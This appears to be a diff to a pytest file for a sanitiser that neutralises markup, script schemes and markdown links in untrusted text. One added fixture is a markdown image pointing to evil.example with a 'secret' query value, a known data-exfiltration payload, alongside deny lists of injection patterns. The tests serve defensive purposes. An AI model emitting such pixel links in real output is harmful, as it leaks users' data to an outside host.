@@ -250,9 +250,11 @@ HOSTILE_QUESTION = "What did the intruders plant on the Ministry of Harbours fer
 
 
 def test_inert_neutralises_markup_and_schemes() -> None:
-    out = inert(HOSTILE + " jav&#x61;script:x AT&T, 3 > 2, the data: 5 percent")
-    for bad in ("<", ">", "javascript:", "data:text", "&#x61;"):
+    pixel = " ![pixel](http://evil.example/t.png?q=secret) [y]: http://evil.example/phish"
+    out = inert(HOSTILE + pixel + " jav&#x61;script:x AT&T, 3 > 2, the data: 5 percent")
+    for bad in ("<", ">", "javascript:", "data:text", "&#x61;", "](", "]:"):
         assert bad not in out, bad
+    assert "![pixel]\\(http://evil.example/t.png?q=secret)" in out  # shown as written, loaded never
     assert "AT&T" in out and "the data: 5 percent" in out and "&lt;script&gt;" in out
 
 
@@ -282,7 +284,7 @@ def hostile_client(tmp_path_factory: pytest.TempPathFactory, warm_model: None) -
 
 
 def assert_inert(content: str) -> None:
-    for bad in ("<script", "<img", "javascript:", "data:text"):
+    for bad in ("<script", "<img", "javascript:", "data:text", "](", "]:"):
         assert bad not in content.lower(), (bad, content)
 
 
